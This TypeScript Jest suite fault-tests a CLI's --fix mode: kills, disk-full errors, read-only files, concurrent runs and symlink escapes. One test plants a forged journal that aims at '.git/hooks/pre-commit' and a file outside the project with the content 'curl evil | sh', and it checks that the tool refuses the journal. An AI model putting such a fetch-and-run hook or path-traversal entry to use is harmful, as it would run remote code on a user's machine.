// --fix under faults, on copies of the cdk-py example (a fix of three files): the process
// killed (-9) at every step of the write and at random moments, the disk full, a rename that
// fails, read-only files and folders, a file the user saves between the run's read and its
// write, two runs at once, symlinks out of the project and logs that name paths outside it.
// After each, every source file is wholly old or wholly new, the three together (all or
// nothing), no temporary file is left once the next run has finished what was interrupted,
// and nothing outside the project was written or read.
import { type ChildProcess, execFileSync, spawn, spawnSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { BIN } from './helpers/cli.js';

const FILES = ['orders/ledger_stack.py', 'orders/monitoring.py', 'orders/orders_stack.py'];
const LOGS = ['deploy.log', 'synth.log'];
const tmpRoot = fs.mkdtempSync(path.join(os.tmpdir(), 'stackfix-faults-'));
afterAll(() => {
  execFileSync('chmod', ['-R', 'u+w', tmpRoot]);
  fs.rmSync(tmpRoot, { recursive: true, force: true });
});

const OLD: Record<string, string> = {};
const NEW: Record<string, string> = {};

let spaces = 0;
/** A folder holding `project/` (a copy of examples/cdk-py) and `outside/` beside it. */
function workspace(): { project: string; outside: string } {
  const dir = path.join(tmpRoot, `w${++spaces}`);
  const project = path.join(dir, 'project');
  const outside = path.join(dir, 'outside');
  fs.cpSync(path.resolve('examples/cdk-py'), project, { recursive: true });
  fs.mkdirSync(outside, { recursive: true });
  fs.cpSync(path.join(project, 'orders'), path.join(outside, 'orders'), { recursive: true });
  fs.writeFileSync(path.join(outside, 'notes.txt'), 'not part of the project\n');
  return { project, outside };
}

interface Run {
  status: number | null;
  signal: NodeJS.Signals | null;
  stdout: string;
  stderr: string;
}

function stackfix(project: string, args: string[], fault?: string): Run {
  const env: NodeJS.ProcessEnv = { ...process.env, NO_COLOR: '1' };
  delete env.STACKFIX_TEST_FAULT;
  if (fault) env.STACKFIX_TEST_FAULT = fault;
  const r = spawnSync(process.execPath, [BIN, ...args], { cwd: project, env, encoding: 'utf8', timeout: 90_000 });
  return { status: r.status, signal: r.signal, stdout: r.stdout, stderr: r.stderr };
}

const fix = (project: string, fault?: string) => stackfix(project, [...LOGS, '--fix'], fault);
/** A plain run (no --fix): what a user runs next. It finishes an interrupted --fix first. */
const next = (project: string) => stackfix(project, [...LOGS, '--format', 'json']);

type FileState = 'old' | 'new' | 'neither';
function states(project: string): FileState[] {
  return FILES.map((f) => {
    const text = fs.readFileSync(path.join(project, f), 'utf8');
    return text === OLD[f] ? 'old' : text === NEW[f] ? 'new' : 'neither';
  });
}

/** Every file wholly old or wholly new, and all three the same: returns which. */
function allOrNothing(project: string): 'old' | 'new' {
  const s = states(project);
  expect(s.every((x) => x === s[0]) && s[0] !== 'neither' ? s : ['a mix']).toEqual(s);
  return s[0] as 'old' | 'new';
}

/** Journal, lock and temp files anywhere under dir. */
function leftovers(dir: string): string[] {
  const out: string[] = [];
  for (const e of fs.readdirSync(dir, { withFileTypes: true, recursive: true })) {
    if (e.name.includes('stackfix')) out.push(path.relative(dir, path.join(e.parentPath, e.name)));
  }
  return out.sort();
}

/**
 * What a run may not do to `outside`: write (size, mtime, inode, the set of names) or read
 * (atime: set before the run to a day before each file's mtime, which a read moves forward on
 * relatime and strictatime mounts; `atimeWorks` says whether this mount shows reads at all).
 */
function watch(dir: string) {
  const files = fs.readdirSync(dir, { recursive: true }).map(String).filter((f) => fs.lstatSync(path.join(dir, f)).isFile());
  for (const f of files) {
    const st = fs.statSync(path.join(dir, f));
    fs.utimesSync(path.join(dir, f), new Date(st.mtimeMs - 86_400_000), st.mtime);
  }
  const snap = () =>
    fs
      .readdirSync(dir, { recursive: true })
      .map(String)
      .sort()
      .map((f) => {
        const st = fs.lstatSync(path.join(dir, f));
        return [f, st.size, st.mtimeMs, st.ino, st.isFile() ? st.atimeMs : 0];
      });
  const before = snap();
  return { untouched: () => expect(snap()).toEqual(before) };
}

/** The write step alone (test/helpers/fix-writer.mjs), for the many kills: a tenth of a CLI run. */
const WRITER = path.resolve('test/helpers/fix-writer.mjs');
let plan = '';
function writer(project: string, what: 'write' | 'recover', fault?: string): Run {
  const env: NodeJS.ProcessEnv = { ...process.env };
  delete env.STACKFIX_TEST_FAULT;
  if (fault) env.STACKFIX_TEST_FAULT = fault;
  const r = spawnSync(process.execPath, [WRITER, project, what === 'write' ? plan : '--recover'], { env, encoding: 'utf8', timeout: 60_000 });
  return { status: r.status, signal: r.signal, stdout: r.stdout, stderr: r.stderr };
}

let atimeWorks = false;

beforeAll(() => {
  for (const f of FILES) OLD[f] = fs.readFileSync(path.resolve('examples/cdk-py', f), 'utf8');
  const { project } = workspace();
  const r = fix(project);
  expect(r.stderr).toBe('');
  expect(r.status).toBe(0);
  for (const f of FILES) NEW[f] = fs.readFileSync(path.join(project, f), 'utf8');
  for (const f of FILES) expect(NEW[f]).not.toBe(OLD[f]);
  plan = path.join(tmpRoot, 'plan.json');
  fs.writeFileSync(plan, JSON.stringify(FILES.map((rel) => ({ rel, before: OLD[rel], after: NEW[rel] }))));
  // Does this file system show reads in atime?
  const probe = path.join(tmpRoot, 'atime-probe');
  fs.writeFileSync(probe, 'x');
  const st = fs.statSync(probe);
  fs.utimesSync(probe, new Date(st.mtimeMs - 86_400_000), st.mtime);
  fs.readFileSync(probe);
  atimeWorks = fs.statSync(probe).atimeMs > st.mtimeMs - 86_400_000;
}, 120_000);

describe('kill -9 at each step of the write', () => {
  // Before `commit` the next run rolls back (no file had changed); from it on, it completes.
  test.each([
    // The lock's content is written beside it and linked into place: a kill in between leaves a temp file, no lock.
    ['lock-temp', 'old', /^$/],
    ['start', 'old', /^stackfix: removed the lock of a stackfix run that is gone \(pid \d+, started [^)]+\)$/],
    ['journal', 'old', /^stackfix: an interrupted --fix \(pid \d+, [^)]+\) had changed no file; removed its temporary files$/],
    ['temp:1', 'old', /had changed no file/],
    ['written:1', 'old', /had changed no file/],
    ['temp:2', 'old', /had changed no file/],
    ['written:2', 'old', /had changed no file/],
    ['temp:3', 'old', /had changed no file/],
    ['written:3', 'old', /had changed no file/],
    ['commit', 'new', /^stackfix: completed an interrupted --fix \(pid \d+, [^)]+\): orders\/ledger_stack\.py, orders\/monitoring\.py, orders\/orders_stack\.py now hold the fix$/],
    ['rename:1', 'new', /completed an interrupted --fix/],
    ['rename:2', 'new', /completed an interrupted --fix/],
    ['rename:3', 'new', /completed an interrupted --fix/],
    ['renamed', 'new', /completed an interrupted --fix/],
    ['done', 'new', /^stackfix: removed the lock of a stackfix run that is gone/],
  ])('killed at %s: the next run leaves every file %s', (point, want, said) => {
    const { project, outside } = workspace();
    const out = watch(outside);
    const killed = writer(project, 'write', `kill@${point}`);
    expect(killed.signal).toBe('SIGKILL');
    // Right after the kill each file is already wholly old or new (renames are atomic)...
    for (const s of states(project)) expect(['old', 'new']).toContain(s);
    // ...and the next run makes them all one or the other, and says what it did.
    const after = writer(project, 'recover');
    expect(after.stderr.trim()).toMatch(said);
    expect(after.status).toBe(0);
    expect(allOrNothing(project)).toBe(want);
    expect(leftovers(project)).toEqual([]);
    out.untouched();
  }, 60_000);

  test.each(['recover-rename:1', 'recover-rename:2', 'recover-rename:3'])('killed again at %s while the next run completes it: the run after that finishes', (point) => {
    const { project } = workspace();
    expect(writer(project, 'write', 'kill@rename:1').signal).toBe('SIGKILL');
    expect(writer(project, 'recover', `kill@${point}`).signal).toBe('SIGKILL');
    for (const s of states(project)) expect(['old', 'new']).toContain(s);
    expect(writer(project, 'recover').stderr).toMatch(/completed an interrupted --fix/);
    expect(allOrNothing(project)).toBe('new');
    expect(leftovers(project)).toEqual([]);
  }, 60_000);

  test('a file edited after the kill is kept, and the others are rolled back to match, even when killed while undoing', () => {
    const { project } = workspace();
    expect(writer(project, 'write', 'kill@rename:3').signal).toBe('SIGKILL');
    const journal = JSON.parse(fs.readFileSync(path.join(project, '.stackfix-journal.json'), 'utf8')) as { files: Array<{ path: string }> };
    const [first, second, third] = journal.files.map((f) => f.path);
    const edited = `${fs.readFileSync(path.join(project, third!), 'utf8')}# edited by hand after the crash\n`;
    fs.writeFileSync(path.join(project, third!), edited);
    expect(writer(project, 'recover', 'kill@recover-restore:2').signal).toBe('SIGKILL');
    const after = writer(project, 'recover');
    expect(after.stderr).toMatch(new RegExp(`^stackfix: rolled back an interrupted --fix \\(pid \\d+, [^)]+\\): restored ${second} to the text before it; left ${third} as it is \\(changed since\\)\n$`));
    expect(fs.readFileSync(path.join(project, first!), 'utf8')).toBe(OLD[first!]);
    expect(fs.readFileSync(path.join(project, second!), 'utf8')).toBe(OLD[second!]);
    expect(fs.readFileSync(path.join(project, third!), 'utf8')).toBe(edited);
    expect(leftovers(project)).toEqual([]);
  }, 60_000);

  test('the CLI: killed between two renames, the next stackfix run completes the fix and says so', () => {
    const { project, outside } = workspace();
    const out = watch(outside);
    expect(fix(project, 'kill@rename:2').signal).toBe('SIGKILL');
    const after = next(project);
    expect(after.stderr).toMatch(/^stackfix: completed an interrupted --fix \(pid \d+, [^)]+\): orders\/\S+, orders\/\S+, orders\/\S+ now hold the fix\n$/);
    expect(after.status).toBe(0);
    expect((JSON.parse(after.stdout) as { findings: Array<{ fix: { status: string } | null }> }).findings.map((f) => f.fix?.status)).toEqual(Array(5).fill('already-fixed'));
    expect(allOrNothing(project)).toBe('new');
    expect(leftovers(project)).toEqual([]);
    out.untouched();
  }, 120_000);

  test('the CLI: killed before the first rename, the next --fix rolls back and then writes the fix whole', () => {
    const { project } = workspace();
    expect(fix(project, 'kill@written:2').signal).toBe('SIGKILL');
    const again = fix(project);
    expect(again.stderr).toMatch(/^stackfix: an interrupted --fix \(pid \d+, [^)]+\) had changed no file; removed its temporary files\n$/);
    expect(again.status).toBe(0);
    expect(allOrNothing(project)).toBe('new');
    expect(leftovers(project)).toEqual([]);
  }, 120_000);
});

describe('kill -9 at random moments', () => {
  // A short run in npm test; STACKFIX_KILL_TRIALS=1000 for a long one. Half the kills are drawn
  // over the whole life of the process, half over its write step (10 ms sleeps at each step
  // make that window wide enough to hit).
  const trials = Number(process.env.STACKFIX_KILL_TRIALS ?? 16);
  test(`${trials} trials`, async () => {
    const tally = { beforeWrite: 0, duringWrite: 0, finished: 0 };
    let seed = 20_240_501;
    const random = () => (seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31) / 2 ** 31;
    const spawnWriter = (project: string, fault: string) =>
      spawn(process.execPath, [WRITER, project, plan], { env: { ...process.env, STACKFIX_TEST_FAULT: fault }, stdio: 'ignore' });
    const exit = (child: ChildProcess) => new Promise<number | null>((resolve) => child.on('exit', (c) => resolve(c)));
    // Where the write step sits in the life of the process, measured with marks.
    const marks = fs.mkdtempSync(path.join(tmpRoot, 'marks-'));
    const t0 = Date.now();
    await exit(spawnWriter(workspace().project, `delay:10@*,mark:${marks}@start,mark:${marks}@done`));
    const span = Date.now() - t0;
    const windowStart = fs.statSync(path.join(marks, 'start')).mtimeMs - t0;
    const windowEnd = fs.statSync(path.join(marks, 'done')).mtimeMs - t0;
    for (let i = 0; i < trials; i++) {
      const { project, outside } = workspace();
      const out = watch(outside);
      const child = spawnWriter(project, 'delay:10@*');
      const delay = i % 2 ? windowStart + random() * (windowEnd - windowStart) : random() * span;
      const timer = setTimeout(() => child.kill('SIGKILL'), delay);
      const code = await exit(child);
      clearTimeout(timer);
      const journal = fs.existsSync(path.join(project, '.stackfix-journal.json'));
      tally[code === 0 ? 'finished' : journal ? 'duringWrite' : 'beforeWrite']++;
      for (const s of states(project)) expect(['old', 'new']).toContain(s);
      const recovered = writer(project, 'recover');
      expect({ status: recovered.status, stderr: recovered.stderr.includes('    at ') ? recovered.stderr : '' }).toEqual({ status: 0, stderr: '' });
      allOrNothing(project);
      expect(leftovers(project)).toEqual([]);
      out.untouched();
    }
    // Where the kills landed, so a long run shows that it exercised the write.
    process.stderr.write(`kill trials: ${JSON.stringify(tally)} (process ${span} ms, write step ${Math.round(windowStart)}-${Math.round(windowEnd)} ms)\n`);
    expect(tally.duringWrite).toBeGreaterThan(0);
  }, 600_000);
});

describe('I/O errors and permissions', () => {
  test('the disk fills up while the temp files are written: exit 2, nothing written', () => {
    const { project } = workspace();
    const r = fix(project, 'enospc@temp:2');
    expect(r.status).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/^stackfix: could not write the fixes \(ENOSPC: no space left on device \(injected at temp:2\)\); nothing written\n$/);
    expect(states(project)).toEqual(['old', 'old', 'old']);
    expect(leftovers(project)).toEqual([]);
  }, 120_000);

  test('a rename fails after the first one: exit 2, the first is undone', () => {
    const { project } = workspace();
    const r = fix(project, 'eio@rename:2');
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/^stackfix: could not write the fixes \(EIO: i\/o error \(injected at rename:2\)\); nothing written\n$/);
    expect(states(project)).toEqual(['old', 'old', 'old']);
    expect(leftovers(project)).toEqual([]);
  }, 120_000);

  test('a read-only folder: exit 2, nothing written', () => {
    const { project } = workspace();
    fs.chmodSync(path.join(project, 'orders'), 0o555);
    const r = fix(project);
    fs.chmodSync(path.join(project, 'orders'), 0o755);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/^stackfix: orders\/\S+\.py: its folder is read-only; nothing written\n$/);
    expect(states(project)).toEqual(['old', 'old', 'old']);
    expect(leftovers(project)).toEqual([]);
  }, 120_000);

  test('one read-only file of three: exit 2, not even the others are written', () => {
    const { project } = workspace();
    fs.chmodSync(path.join(project, 'orders/monitoring.py'), 0o444);
    const r = fix(project);
    expect(r.status).toBe(2);
    expect(r.stderr).toBe('stackfix: orders/monitoring.py: is read-only; nothing written\n');
    expect(states(project)).toEqual(['old', 'old', 'old']);
    expect(leftovers(project)).toEqual([]);
  }, 120_000);

  test('a read-only project root (where the journal goes): exit 2, nothing written', () => {
    const { project } = workspace();
    fs.chmodSync(project, 0o555);
    const r = fix(project);
    fs.chmodSync(project, 0o755);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/is read-only \(stackfix keeps its journal there while it writes\); nothing written\n$/);
    expect(states(project)).toEqual(['old', 'old', 'old']);
    expect(leftovers(project)).toEqual([]);
  }, 120_000);
});

/** Waits for `file` to appear; fails after a minute or once `gone()` says the process that would write it has exited. */
async function waitFor(file: string, gone: () => boolean = () => false): Promise<void> {
  for (let waited = 0; !fs.existsSync(file); waited += 20) {
    if (waited > 60_000 || gone()) throw new Error(`${path.basename(file)} never came`);
    await new Promise((r) => setTimeout(r, 20));
  }
}

/** `stackfix LOGS --fix` in the background: its result once it exits, and whether it has. */
function fixInBackground(project: string, fault: string): { exited: Promise<Run>; done: () => boolean } {
  const child = spawn(process.execPath, [BIN, ...LOGS, '--fix'], { cwd: project, env: { ...process.env, NO_COLOR: '1', STACKFIX_TEST_FAULT: fault } });
  let stdout = '';
  let stderr = '';
  let done = false;
  child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
  child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
  const exited = new Promise<Run>((resolve) =>
    child.on('exit', (status, signal) => {
      done = true;
      resolve({ status, signal, stdout, stderr });
    }),
  );
  return { exited, done: () => done };
}

/** Runs --fix paused at `point` (the run waits for `go`), lets `meanwhile` act, then lets it go on. */
async function pausedFix(project: string, point: string, meanwhile: () => void | Promise<void>): Promise<Run> {
  const signals = fs.mkdtempSync(path.join(tmpRoot, 'signals-'));
  const { exited, done } = fixInBackground(project, `pause:${signals}@${point}`);
  try {
    await waitFor(path.join(signals, point), done);
    await meanwhile();
  } finally {
    fs.writeFileSync(path.join(signals, 'go'), '');
  }
  return exited;
}

describe('a file that changes between the read and the write', () => {
  test('saved before the write starts: exit 2, the edit kept, nothing written', async () => {
    const { project } = workspace();
    const file = path.join(project, 'orders/ledger_stack.py');
    const edited = `${OLD['orders/ledger_stack.py']}# saved in the editor meanwhile\n`;
    const r = await pausedFix(project, 'start', () => fs.writeFileSync(file, edited));
    expect(r.status).toBe(2);
    expect(r.stderr).toBe('stackfix: orders/ledger_stack.py: changed since stackfix read it; nothing written (run stackfix again on the new text)\n');
    expect(fs.readFileSync(file, 'utf8')).toBe(edited);
    expect(states(project).filter((s) => s !== 'neither')).toEqual(['old', 'old']);
    expect(leftovers(project)).toEqual([]);
  }, 120_000);

  test('saved after the first rename, right before its own: exit 2, the edit kept, the first undone', async () => {
    const { project } = workspace();
    let second = '';
    let edited = '';
    const r = await pausedFix(project, 'rename:2', () => {
      const journal = JSON.parse(fs.readFileSync(path.join(project, '.stackfix-journal.json'), 'utf8')) as { files: Array<{ path: string }> };
      second = journal.files[1]!.path;
      edited = `${OLD[second]}# saved in the editor meanwhile\n`;
      fs.writeFileSync(path.join(project, second), edited);
    });
    expect(r.status).toBe(2);
    expect(r.stderr).toBe(`stackfix: ${second}: changed since stackfix read it; nothing written (run stackfix again on the new text)\n`);
    expect(fs.readFileSync(path.join(project, second), 'utf8')).toBe(edited);
    for (const f of FILES.filter((f) => f !== second)) expect(fs.readFileSync(path.join(project, f), 'utf8')).toBe(OLD[f]);
    expect(leftovers(project)).toEqual([]);
  }, 120_000);
});

describe('two runs on one project', () => {
  test('the second waits for the first to write, then refuses: what it read is gone', async () => {
    const { project } = workspace();
    const signals = fs.mkdtempSync(path.join(tmpRoot, 'second-'));
    let second: Promise<Run> | undefined;
    const first = await pausedFix(project, 'commit', async () => {
      // The first holds the lock with its journal committed; the second must not take that
      // journal for an interrupted one, and must wait at the lock to write.
      const run = fixInBackground(project, `mark:${signals}@lock-busy`);
      second = run.exited;
      await waitFor(path.join(signals, 'lock-busy'), run.done);
    });
    expect(first.status).toBe(0);
    expect(first.stderr).toBe('');
    const r = await second!;
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/^stackfix: orders\/\S+\.py: changed since stackfix read it; nothing written/);
    expect(allOrNothing(project)).toBe('new');
    expect(leftovers(project)).toEqual([]);
  }, 180_000);

  test('a lock held by a live run past the wait: exit 2 naming it, nothing written', () => {
    const { project } = workspace();
    const lock = path.join(project, '.stackfix.lock');
    fs.writeFileSync(lock, JSON.stringify({ pid: process.pid, host: os.hostname(), started: Date.now(), nonce: 'x' }));
    const r = fix(project, 'lock-wait=300');
    expect(r.status).toBe(2);
    expect(r.stderr).toBe(`stackfix: another stackfix run (pid ${process.pid}) is writing fixes in ${fs.realpathSync(project)}; nothing written (if none is running, remove ${fs.realpathSync(lock)})\n`);
    expect(states(project)).toEqual(['old', 'old', 'old']);
    // A plain run leaves a live run's lock alone.
    expect(next(project).stderr).toBe('');
    expect(fs.existsSync(lock)).toBe(true);
    fs.rmSync(lock);
  }, 120_000);

  test('a lock left by a process that is gone is removed, and the fix is written', () => {
    const { project } = workspace();
    const gone = spawnSync(process.execPath, ['-e', 'process.stdout.write(String(process.pid))'], { encoding: 'utf8' });
    fs.writeFileSync(path.join(project, '.stackfix.lock'), JSON.stringify({ pid: Number(gone.stdout), host: os.hostname(), started: Date.now(), nonce: 'x' }));
    const r = fix(project);
    expect(r.status).toBe(0);
    expect(r.stderr).toMatch(new RegExp(`^stackfix: removed the lock of a stackfix run that is gone \\(pid ${gone.stdout}, started [^)]+\\)\\n$`));
    expect(allOrNothing(project)).toBe('new');
    expect(leftovers(project)).toEqual([]);
  }, 120_000);
});

describe('nothing outside the project', () => {
  test('a source file that is a symlink to a file outside: that file is neither read nor written', () => {
    const { project, outside } = workspace();
    fs.rmSync(path.join(project, 'orders/monitoring.py'));
    fs.symlinkSync(path.join(outside, 'orders/monitoring.py'), path.join(project, 'orders/monitoring.py'));
    const out = watch(outside);
    // The other fixes are written; the one for the file outside cannot be.
    const r = fix(project);
    expect(r.stderr).toBe('');
    expect(fs.readFileSync(path.join(project, 'orders/ledger_stack.py'), 'utf8')).toBe(NEW['orders/ledger_stack.py']);
    out.untouched();
    expect(fs.lstatSync(path.join(project, 'orders/monitoring.py')).isSymbolicLink()).toBe(true);
    expect(leftovers(project)).toEqual([]);
    expect(leftovers(outside)).toEqual([]);
    if (!atimeWorks) process.stderr.write('atime does not show reads on this file system: reads outside were not checked\n');
  }, 120_000);

  test('a source folder that is a symlink to a folder outside: nothing there is read or written', () => {
    const { project, outside } = workspace();
    fs.rmSync(path.join(project, 'orders'), { recursive: true });
    fs.symlinkSync(path.join(outside, 'orders'), path.join(project, 'orders'));
    const out = watch(outside);
    const r = fix(project);
    expect(r.status).toBe(1);
    out.untouched();
    expect(leftovers(outside)).toEqual([]);
    expect(leftovers(project)).toEqual([]);
  }, 120_000);

  test('a log that names files outside the project: they are neither read nor written', () => {
    const { project, outside } = workspace();
    // The traceback points at a copy of the failing module outside the project, by absolute and by relative path.
    const traceback = (file: string) =>
      [
        'Traceback (most recent call last):',
        `  File "${path.join(outside, 'app.py')}", line 13, in <module>`,
        '    OrdersStack(',
        `  File "${file}", line 13, in __init__`,
        '    errors = logs.MetricFilter(',
        '             ^^^^',
        "NameError: name 'logs' is not defined",
        '',
      ].join('\n');
    fs.renameSync(path.join(outside, 'orders/monitoring.py'), path.join(outside, 'orders/alarms.py'));
    fs.writeFileSync(path.join(outside, 'app.py'), 'OrdersStack(app, "Orders")\n');
    fs.writeFileSync(path.join(project, 'abs.log'), traceback(path.join(outside, 'orders/alarms.py')));
    fs.writeFileSync(path.join(project, 'rel.log'), traceback('../outside/orders/alarms.py'));
    const out = watch(outside);
    for (const log of ['abs.log', 'rel.log']) {
      const r = stackfix(project, [log, '--fix', '--format', 'json']);
      expect([0, 1]).toContain(r.status);
      out.untouched();
    }
    expect(leftovers(project)).toEqual([]);
    expect(leftovers(outside)).toEqual([]);
  }, 120_000);
});

describe('a journal stackfix did not write', () => {
  test.each([
    ['outside the project', '../outside/notes.txt', '../outside/.notes.txt.stackfix-00000000.tmp'],
    ['in .git', '.git/hooks/pre-commit', '.git/hooks/.pre-commit.stackfix-00000000.tmp'],
  ])('one naming a file %s: refused under --fix, left as it is', (_where, target, temp) => {
    const { project, outside } = workspace();
    const out = watch(outside);
    // Its hashes agree with its texts: only the path is wrong.
    const sha = (t: string) => crypto.createHash('sha256').update(t).digest('hex');
    const journal = {
      stackfix: 'fix-journal',
      version: 1,
      state: 'commit',
      pid: 1,
      host: os.hostname(),
      started: new Date().toISOString(),
      files: [{ path: target, temp, old: sha(''), new: sha('#!/bin/sh\ncurl evil | sh\n'), oldText: '' }],
    };
    const file = path.join(project, '.stackfix-journal.json');
    fs.writeFileSync(file, JSON.stringify(journal));
    const r = fix(project);
    expect(r.status).toBe(2);
    expect(r.stderr).toBe(`stackfix: ${fs.realpathSync(file)}: not a journal stackfix can finish (entry ${JSON.stringify(target)}); it was left as it is: check the files it names, then remove it; nothing written\n`);
    expect(states(project)).toEqual(['old', 'old', 'old']);
    // A plain run says so and goes on.
    const plain = next(project);
    expect(plain.status).toBe(1);
    expect(plain.stderr).toMatch(/not a journal stackfix can finish/);
    expect(fs.existsSync(file)).toBe(true);
    out.untouched();
  }, 120_000);

  test('a journal that is a symlink is never followed', () => {
    const { project, outside } = workspace();
    const out = watch(outside);
    fs.symlinkSync(path.join(outside, 'notes.txt'), path.join(project, '.stackfix-journal.json'));
    const r = fix(project);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/not a journal stackfix can finish \(not a regular file\)/);
    out.untouched();
  }, 120_000);
});
